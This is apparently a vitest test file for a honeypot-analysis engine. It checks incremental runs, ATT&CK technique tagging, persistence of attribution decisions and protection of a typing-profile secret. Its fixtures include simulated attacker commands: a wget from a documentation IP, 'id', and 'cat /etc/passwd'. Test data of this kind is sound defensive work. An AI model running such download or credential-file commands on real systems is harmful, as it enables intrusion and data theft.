import { readFile, rm, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { lastValueFrom, toArray } from 'rxjs';
import { beforeEach, expect, it, onTestFinished, vi } from 'vitest';
import type { PipelineEvent } from '@shardscope/sdk';
import {
  openAnalysis,
  type Analysis,
} from '../../../../packages/engine/src/analysis/open-analysis.ts';
import { folders, put, shardPath, sid, typed, type Folders } from '../cli/support/recordings.ts';

beforeEach(() => {
  onTestFinished(() => void vi.unstubAllEnvs());
});

async function open({ recordings, data }: Folders, threads = 1): Promise<Analysis> {
  vi.stubEnv('SHARDSCOPE_DATA', data);
  return openAnalysis({
    ...{ path: recordings, workspace: { kind: 'user' }, semantics: '0.1' },
    threads: { threads, minBytes: 0, readsHere: threads === 1 },
  });
}

async function run(analysis: Analysis): Promise<readonly PipelineEvent[]> {
  const { signal } = new AbortController();
  return lastValueFrom(analysis.run({ signal }).pipe(toArray()));
}

/** One address a session, in an envelope beside the shard. */
async function recordings(): Promise<Folders> {
  const files = await folders({
    [shardPath('web-01')]: [1, 2, 3]
      .map((each) => typed(sid(each), ['wget http://198.51.100.9/x', 'id', 'exit']))
      .join(''),
  });
  const log = [1, 2, 3].map(
    (each) =>
      `<134>1 2026-03-01T10:01:00Z web-01 sessrec - session_recorded [relay@55555 sid="${sid(each)}" service="ssh" src_ip="192.0.2.${Math.min(each, 2)}" duration_s="4.6" bytes="99" truncated="false"]\n`,
  );
  await writeFile(join(files.recordings, 'honeynet.log'), log.join(''));
  return files;
}

function storeFile(analysis: Analysis): string {
  return join(analysis.workspace.dir ?? '', 'store.sqlite');
}

async function written(analysis: Analysis): Promise<number> {
  await analysis.workspace.flush();
  return (await stat(storeFile(analysis))).mtimeMs;
}

const shown = (events: readonly PipelineEvent[]) => events.filter(({ kind }) => kind === 'event');

it('a run that finds nothing new publishes nothing and leaves the database as it is', async () => {
  const files = await recordings();
  const first = await open(files);
  expect(shown(await run(first)).length).toBeGreaterThan(20);
  const before = await written(first);
  expect(shown(await run(first))).toEqual([]);
  expect(await written(first)).toBe(before);
  await first.close();
  const second = await open(files);
  expect(shown(await run(second))).toEqual([]);
  expect(await written(second)).toBe(before);
  await second.close();
});

it.each([
  ['this thread', 1],
  ['workers', 2],
] as const)(
  'commands that the honeypot logged, and that come later, are tagged once (read by %s)',
  async (_name, threads) => {
    const files = await recordings();
    const first = await open(files, threads);
    await run(first);
    const techniques = (analysis: Analysis): readonly string[] =>
      analysis.store.techniques({}).map(({ technique }) => technique);
    expect(techniques(first)).not.toContain('T1087');
    await first.close();
    const line = `<134>1 2026-03-01T10:00:58Z web-01 bash - command - CMD uid=0 user=root src=192.0.2.1 pwd=/root cmd=cat /etc/passwd\n`;
    await writeFile(join(files.recordings, 'late.log'), line);
    // Threads are only started where there is something new in more than one shard.
    for (const decky of ['web-02', 'web-03']) {
      await put(files.recordings, shardPath(decky), typed(sid(9), ['ls', 'exit']));
    }
    const second = await open(files, threads);
    const found = shown(await run(second));
    expect(techniques(second)).toContain('T1087');
    // Only what looks at commands has looked again: what was observed is not told twice.
    const observed = found.flatMap((event) =>
      event.kind === 'event' && event.envelope.topic.startsWith('attacker.observation.')
        ? [JSON.stringify(event.envelope.payload)]
        : [],
    );
    expect(observed.filter((payload) => payload.includes('shard:web-02')).length).toBeGreaterThan(
      5,
    );
    expect(observed.filter((payload) => payload.includes('shard:web-01'))).toEqual([]);
    const before = await written(second);
    await second.close();
    const third = await open(files, threads);
    expect(shown(await run(third))).toEqual([]);
    expect(await written(third)).toBe(before);
    await third.close();
  },
);

it('what the user decided survives the loss of the database, and costs no rewriting', async () => {
  const files = await recordings();
  const first = await open(files);
  await run(first);
  const uuidOf = (analysis: Analysis, address: string): string =>
    analysis.store.attacker(address)?.uuid ?? '';
  const [left, right] = [uuidOf(first, '192.0.2.1'), uuidOf(first, '192.0.2.2')];
  await first.workspace.decisions.decide([{ kind: 'confirmed', left, right, at: 1 }]);
  await first.attribute(() => undefined);
  const identity = first.store.identities.of(left);
  expect(first.store.identities.of(right)).toBe(identity);
  const states = first.store.identities.states(identity ?? '');
  expect(states.map(({ observation_count: count }) => count)).toContain(3);
  await first.close();
  await rm(storeFile(first));
  const second = await open(files);
  await run(second);
  expect(second.store.identities.of(right)).toBe(identity);
  expect(second.store.identities.states(identity ?? '')).toEqual(states);
  const before = await written(second);
  await second.close();
  const third = await open(files);
  expect(shown(await run(third))).toEqual([]);
  expect(await written(third)).toBe(before);
  await third.close();
});

it('decisions that cannot be read are set aside with a message, and hold no longer', async () => {
  const files = await recordings();
  const first = await open(files);
  await run(first);
  const [left, right] = ['192.0.2.1', '192.0.2.2'].map(
    (address) => first.store.attacker(address)?.uuid ?? '',
  );
  const decision = { kind: 'confirmed', left: left ?? '', right: right ?? '', at: 1 } as const;
  await first.workspace.decisions.decide([decision]);
  await first.attribute(() => undefined);
  const file = join(first.workspace.dir ?? '', 'links.json');
  await first.close();
  await writeFile(file, '{"version":1,"decisions":[{"kind":"perhaps"}]}');
  const second = await open(files);
  expect(second.notices().join()).toMatch(/links\.json/);
  await run(second);
  expect(second.store.identities.of(left ?? '')).not.toBe(second.store.identities.of(right ?? ''));
  await second.close();
  const aside =
    second
      .notices()
      .join()
      .match(/links\.json\.[\w.-]*\w/)?.[0] ?? 'none';
  expect(await readFile(join(first.workspace.dir ?? '', aside), 'utf8')).toContain('perhaps');
});

it('the secret of typing profiles is for its user only, and in nothing that is told', async () => {
  const files = await recordings();
  const analysis = await open(files);
  const file = join(analysis.workspace.dir ?? '', 'secret.json');
  expect((await stat(file)).mode & 0o777).toBe(0o600);
  const { secret } = JSON.parse(await readFile(file, 'utf8')) as { secret: string };
  expect(secret).toMatch(/^[0-9a-f]{64}$/);
  const told = JSON.stringify(await run(analysis));
  expect(told).not.toContain(secret);
  expect(told).not.toContain('digraph_profile');
  await analysis.workspace.flush();
  expect((await readFile(storeFile(analysis))).includes(secret)).toBe(false);
  await analysis.close();
});
